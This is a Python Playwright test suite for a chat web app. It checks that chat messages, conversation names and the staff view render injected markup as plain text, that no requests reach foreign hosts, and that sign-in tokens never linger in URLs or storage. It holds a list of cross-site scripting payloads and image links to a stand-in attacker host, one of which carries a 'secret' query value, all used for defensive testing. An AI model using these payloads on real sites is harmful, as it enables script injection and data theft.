"""What a model, a name or a link can't do to the page."""

from __future__ import annotations

import json

import pytest
from playwright.async_api import BrowserContext, Request, expect

from .conftest import ChatPage, Person

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

ATTACKS = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "[click](javascript:window.hacked=1)",
    "![x](javascript:window.hacked=1)",
    "<svg onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "[a](data:text/html,<script>window.hacked=1</script>)",
    "<a href='https://a.example' onclick='window.hacked=1'>x</a>",
    '```"><img src=x onerror=window.hacked=1>\ncode\n```',
    "<style>* { display: none }</style>",
    "<form action='https://evil.example'><input name=a><button>go</button></form>",
    '[x](https://a.example/"onmouseover="window.hacked=1)',
]


async def test_scripts_in_answers_and_names_are_only_text(chat: ChatPage) -> None:
    for attack in ATTACKS:
        await chat.ask(attack)
    await chat.page.reload()
    await expect(chat.answers).to_have_count(len(ATTACKS))
    for link in await chat.page.locator("chatbox-markdown a").all():
        assert (await link.get_attribute("href")).startswith("https://")
        await link.hover(force=True)
    assert await chat.page.evaluate("window.hacked") is None
    assert await chat.page.locator("chatbox-markdown :is(script, img, svg, iframe, form, style, input)").count() == 0


async def test_a_script_as_a_name_is_only_text(chat: ChatPage) -> None:
    name = "<img src=x onerror='window.hacked = 1'>"
    await chat.ask("hello")
    await chat.menu("Rename")
    await chat.page.get_by_role("textbox", name="Name of the conversation").fill(name)
    await chat.page.keyboard.press("Enter")
    await expect(chat.rows.first).to_contain_text(name)
    await expect(chat.page.get_by_text(f"Renamed to “{name}”")).to_be_visible()
    assert await chat.page.evaluate("window.hacked") is None


async def test_nothing_foreign_is_requested_before_a_click(person: Person, context: BrowserContext) -> None:
    requested: list[str] = []

    def note(request: Request) -> None:
        requested.append(request.url)

    context.on("request", note)
    chat = await person.open()
    await chat.ask("![a cat](https://evil.example/cat.png?what=secret) and [this](https://evil.example/page)")
    await chat.ask("![x][1]\n\n[1]: https://evil.example/by-reference.png")
    await chat.ask("<img src=https://evil.example/raw.png><link rel=prefetch href=https://evil.example/p>")
    await chat.ask("/file https://evil.example/photo.png")
    await chat.ask("/markdown")
    foreign = [url for url in requested if not url.startswith((person.server.base, "data:", "blob:"))]
    assert foreign == []
    card = chat.page.get_by_role("link", name="Image: a cat (evil.example)")
    await expect(card).to_have_attribute("rel", "noopener noreferrer nofollow")
    await expect(card).to_have_attribute("target", "_blank")


async def test_the_token_is_in_no_address_and_in_nothing_that_outlives_the_tab(person: Person, chat: ChatPage) -> None:
    page = chat.page
    assert "token" not in page.url
    await page.go_back()
    assert person.token not in page.url
    await page.go_forward()
    left = await page.evaluate(
        """async () => JSON.stringify({
            local: { ...localStorage },
            cookies: document.cookie,
            databases: await indexedDB.databases(),
            caches: await caches.keys(),
            state: history.state,
            body: document.documentElement.outerHTML,
        })"""
    )
    assert person.token not in left
    assert json.loads(left)["local"] == {}


async def test_the_page_obeys_a_strict_content_policy(person: Person, context: BrowserContext) -> None:
    page = await context.new_page()
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    answer = await page.goto(f"{person.server.base}#token={person.token}")
    policy = answer.headers["content-security-policy"]
    assert "unsafe" not in policy
    chat = ChatPage(page)
    await chat.ask("/markdown")
    assert complaints == []


async def test_a_page_without_a_token_says_where_to_sign_in(person: Person, context: BrowserContext) -> None:
    page = await context.new_page()
    await page.goto(person.server.base)
    await expect(page.get_by_role("heading", name="Please sign in first")).to_be_visible()


async def test_a_token_that_the_server_refuses_leads_to_sign_in(person: Person, context: BrowserContext) -> None:
    page = await context.new_page()
    stale = person.server.token(person.user, lives=-600)
    await page.goto(f"{person.server.base}#token={stale}")
    await expect(page.get_by_text("Your sign-in has expired.")).to_be_visible()
    await page.reload()
    await expect(page.get_by_role("heading", name="Please sign in first")).to_be_visible()


async def test_the_staff_page_without_a_token_says_where_to_sign_in(person: Person, context: BrowserContext) -> None:
    page = await context.new_page()
    await page.goto(f"{person.server.base}staff")
    await expect(page.get_by_role("heading", name="Please sign in first")).to_be_visible()


async def test_the_staffs_token_leaves_the_address_before_anything_else_sees_it(
    person: Person, context: BrowserContext
) -> None:
    page = await context.new_page()
    token = person.server.token("staff-ida", roles=["chat_admin"])
    await page.goto(f"{person.server.base}staff?lang=en#token={token}")
    await expect(page.locator("chatbox-rail")).to_be_visible()
    assert token not in page.url
    await page.reload()
    await expect(page.locator("chatbox-rail")).to_be_visible()


async def test_what_users_and_their_pages_say_is_text_to_staff(person: Person, context: BrowserContext) -> None:
    attack = "<img src=x onerror='window.hacked=1'>"
    person.token = person.server.token(f"<b>{person.user}</b>", name=attack)
    chat = await person.open()
    await chat.ask(f"{attack} [link](javascript:window.hacked=1)")
    await chat.page.get_by_role("button", name="Get help from a person").click()
    page = await context.new_page()
    alerts: list[str] = []
    page.on("console", lambda message: alerts.append(message.text) if "Content Security" in message.text else None)
    await page.goto(f"{person.server.base}staff#token={person.server.token('staff-ida', roles=['chat_admin'])}")
    await page.locator("chatbox-staff-row").filter(has_text=attack).first.click()
    await page.get_by_role("button", name="About the user").click()
    await expect(page.locator("chatbox-pane h2")).to_contain_text(attack)
    await expect(page.locator("chatbox-staff-message").first).to_contain_text("onerror")
    assert await page.evaluate("window.hacked") is None
    assert await page.locator("chatbox-pane img").count() == 0
    assert alerts == []
